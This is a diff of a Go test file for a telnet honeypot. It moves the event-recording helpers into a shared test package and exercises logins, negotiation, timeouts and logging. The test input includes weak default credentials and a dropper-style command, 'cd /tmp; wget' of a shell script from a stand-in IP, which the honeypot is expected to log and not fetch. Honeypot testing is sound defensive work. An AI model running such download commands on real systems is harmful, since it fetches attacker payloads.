@@ -2,58 +2,19 @@ package telnet
 
 import (
 	"bytes"
-	"context"
 	"fmt"
 	"net"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
 	"honeysens/app/honeypot"
+	"honeysens/app/honeypot/hptest"
 	"honeysens/app/model"
 )
 
-type recorder struct {
-	mu     sync.Mutex
-	events []*model.Event
-	ch     chan struct{}
-}
-
-func (r *recorder) Report(_ context.Context, e *model.Event) error {
-	r.mu.Lock()
-	r.events = append(r.events, e)
-	r.mu.Unlock()
-	r.ch <- struct{}{}
-	return nil
-}
-
-func (r *recorder) wait(t *testing.T, n int) *model.Event {
-	t.Helper()
-	deadline := time.After(30 * time.Second)
-	for {
-		r.mu.Lock()
-		if len(r.events) >= n {
-			e := r.events[n-1]
-			r.mu.Unlock()
-			return e
-		}
-		r.mu.Unlock()
-		select {
-		case <-r.ch:
-		case <-deadline:
-			t.Fatalf("no event %d within 30s", n)
-		}
-	}
-}
-
-func details(e *model.Event) string {
-	var sb strings.Builder
-	for _, d := range e.Details {
-		fmt.Fprintf(&sb, "%d %s\n", d.Type, d.Data)
-	}
-	return sb.String()
-}
+// eventWait is how long a test waits for an event.
+const eventWait = 30 * time.Second
 
 func mustContain(t *testing.T, what, s string, subs ...string) {
 	t.Helper()
@@ -64,12 +25,12 @@ func mustContain(t *testing.T, what, s string, subs ...string) {
 	}
 }
 
-func start(t *testing.T, cfg Config, lim honeypot.Limits) (*Service, *recorder, string) {
+func start(t *testing.T, cfg Config, lim honeypot.Limits) (*Service, *hptest.Recorder, string) {
 	t.Helper()
 	cfg.Listen = "127.0.0.1:0"
 	s := New(cfg, lim, nil)
 	s.delay = 0
-	rec := &recorder{ch: make(chan struct{}, 100)}
+	rec := hptest.NewRecorder()
 	if err := s.Start(rec); err != nil {
 		t.Fatal(err)
 	}
@@ -141,14 +102,14 @@ func TestRawClientLoginAndShell(t *testing.T) {
 	mustContain(t, "output", out, "Connecting to 203.0.113.5:80... failed: Connection timed out.\r\n")
 	c.send("exit\r\n")
 	mustContain(t, "exit", c.until("logout\r\n"))
-	e := rec.wait(t, 1)
+	e := rec.Wait(t, 1, eventWait)
 	if e.Service != "telnet" || e.Summary != "Telnet: login as root with password 123456 after 1 failed attempt, 3 commands, 1 download attempt" {
 		t.Errorf("event %q %q", e.Service, e.Summary)
 	}
-	mustContain(t, "details", details(e), "1 login admin / admin: refused\n", "1 login root / 123456: accepted\n", "1 command: uname -a\n",
+	mustContain(t, "details", hptest.TypedDetails(e), "1 login admin / admin: refused\n", "1 login root / 123456: accepted\n", "1 command: uname -a\n",
 		"1 command: cd /tmp; wget http://203.0.113.5/m.sh\n", "1 download attempt (not fetched): http://203.0.113.5/m.sh\n",
 		"1 command: exit\n", "(logout)", "0 telnet negotiation: none (raw TCP client)")
-	t.Logf("%s\n%s", e.Summary, details(e))
+	t.Logf("%s\n%s", e.Summary, hptest.TypedDetails(e))
 }
 
 func TestNegotiationAndEcho(t *testing.T) {
@@ -177,8 +138,8 @@ func TestNegotiationAndEcho(t *testing.T) {
 	c.until("[Yes]")
 	c.send("\x04")
 	c.until("logout\r\n")
-	e := rec.wait(t, 1)
-	mustContain(t, "details", details(e), "1 terminal type xterm-256color\n", "1 window size 132x42\n",
+	e := rec.Wait(t, 1, eventWait)
+	mustContain(t, "details", hptest.TypedDetails(e), "1 terminal type xterm-256color\n", "1 window size 132x42\n",
 		"1 environment USER=-f root LANG=C\n", "0 telnet negotiation: DO ECHO, DO SGA, WILL TTYPE, WILL NAWS, WILL NEW-ENVIRON, DO LINEMODE, WILL STATUS",
 		"1 command: pwd\n", "(logout)")
 	if e.Summary != "Telnet: login as root with password toor, 2 commands" {
@@ -195,11 +156,11 @@ func TestFailedLoginsAndMaxTries(t *testing.T) {
 		c.until("Login incorrect\r\n")
 	}
 	c.until("Maximum number of tries exceeded (5)\r\n")
-	e := rec.wait(t, 1)
+	e := rec.Wait(t, 1, eventWait)
 	if e.Summary != "Telnet: 5 failed logins as admin" {
 		t.Errorf("summary %q", e.Summary)
 	}
-	mustContain(t, "details", details(e), "login admin / pass4: refused", "(too many login attempts)")
+	mustContain(t, "details", hptest.TypedDetails(e), "login admin / pass4: refused", "(too many login attempts)")
 
 	// AcceptAfter across connections from one address
 	_, rec2, addr2 := start(t, Config{Accept: []string{}, AcceptAfter: 2}, honeypot.Limits{})
@@ -214,9 +175,9 @@ func TestFailedLoginsAndMaxTries(t *testing.T) {
 	c.send("u\r\nanything\r\n")
 	c.until("u@debian:~$ ")
 	c.c.Close()
-	rec2.wait(t, 2)
+	rec2.Wait(t, 2, eventWait)
 	var sums []string
-	for _, e := range rec2.events {
+	for _, e := range rec2.Events() {
 		sums = append(sums, e.Summary)
 	}
 	if !strings.Contains(strings.Join(sums, "|"), "Telnet: login as u with password anything, 0 commands") {
@@ -228,8 +189,8 @@ func TestTimeoutsAndStop(t *testing.T) {
 	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: 300 * time.Millisecond, TotalTimeout: time.Minute})
 	c := dial(t, addr)
 	c.until("login: ")
-	e := rec.wait(t, 1)
-	mustContain(t, "idle", details(e), "(idle timeout)")
+	e := rec.Wait(t, 1, eventWait)
+	mustContain(t, "idle", hptest.TypedDetails(e), "(idle timeout)")
 	if e.Summary != "Telnet: connection without login" {
 		t.Errorf("summary %q", e.Summary)
 	}
@@ -243,7 +204,7 @@ func TestTimeoutsAndStop(t *testing.T) {
 		}
 		time.Sleep(200 * time.Millisecond)
 	}
-	mustContain(t, "drip", details(rec.wait(t, 1)), "(total time limit)")
+	mustContain(t, "drip", hptest.TypedDetails(rec.Wait(t, 1, eventWait)), "(total time limit)")
 
 	s.Stop()
 	s2, rec2, addr2 := start(t, Config{}, honeypot.Limits{})
@@ -252,8 +213,8 @@ func TestTimeoutsAndStop(t *testing.T) {
 	c.send("root\r\nroot\r\nls\r\n")
 	c.until("# ")
 	s2.Stop()
-	e = rec2.wait(t, 1)
-	mustContain(t, "stop", details(e), "(service stopped)")
+	e = rec2.Wait(t, 1, eventWait)
+	mustContain(t, "stop", hptest.TypedDetails(e), "(service stopped)")
 }
 
 func TestValidate(t *testing.T) {
